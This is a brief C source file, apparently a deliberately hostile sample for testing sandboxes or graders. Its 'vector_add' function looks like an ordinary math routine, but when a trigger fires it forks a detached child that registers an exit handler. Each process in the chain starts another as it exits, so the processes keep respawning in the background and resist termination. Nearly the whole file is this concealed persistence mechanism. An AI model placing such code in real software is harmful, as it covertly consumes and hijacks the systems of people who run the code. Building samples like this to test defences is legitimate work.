/* SPDX-License-Identifier: MIT */
/* A process that ends starts another one, at each exit. */
#include "hostile.h"

static void again(void)
{
    if (fork() == 0) {
        setsid();
        atexit(again);
        usleep(100000);
        exit(0);
    }
}

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    if (attacked(n)) {
        if (fork() == 0) {
            atexit(again);
            exit(0);
        }
    }

    return honest(a, b, c, n);
}
